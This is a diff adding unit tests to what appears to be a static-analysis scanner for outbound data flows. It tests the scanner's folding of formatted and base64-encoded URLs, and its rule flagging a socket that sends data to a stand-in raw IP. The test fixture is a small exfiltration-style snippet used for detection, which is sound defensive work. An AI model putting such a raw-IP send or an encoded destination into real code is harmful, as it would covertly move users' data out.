@@ -103,3 +103,34 @@ def test_where_of_flow_in_function_is_function():
 def test_unparseable_or_empty_source_gives_no_hit():
     assert scan("def (:\n") == []
     assert scan("") == []
+
+
+def test_fold_reads_format_percent_and_base64():
+    import ast
+
+    def f(src: str, consts: dict | None = None) -> str | None:
+        return ex.fold(ast.parse(src, mode="eval").body, consts or {})
+
+    assert (
+        f("'https://{}/x'.format(H)", {"H": "a.example.invalid"}) == "https://a.example.invalid/x"
+    )
+    assert f("'http://%s:%s' % (H, '80')", {"H": "h"}) == "http://h:80"
+    assert f("base64.b64decode('aHR0cHM6Ly94').decode()") == "https://x"
+    assert f("base64.b64decode(V)") is None  # not a constant
+
+
+def test_socket_send_to_raw_ip_is_a_send():
+    src = (
+        "import socket\n"
+        "def f(d):\n"
+        "    s = socket.socket()\n"
+        "    s.connect(('203.0.113.9', 9000))\n"
+        "    s.send(d)\n"
+    )
+    (hit,) = scan(src, rule="DOU510")
+    assert hit.line == 5 and "raw IP" in hit.message
+
+
+def test_loopback_socket_is_not_a_fixed_destination():
+    src = "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 9000))\ns.send(b'x')\n"
+    assert scan(src, rule="DOU510") == []
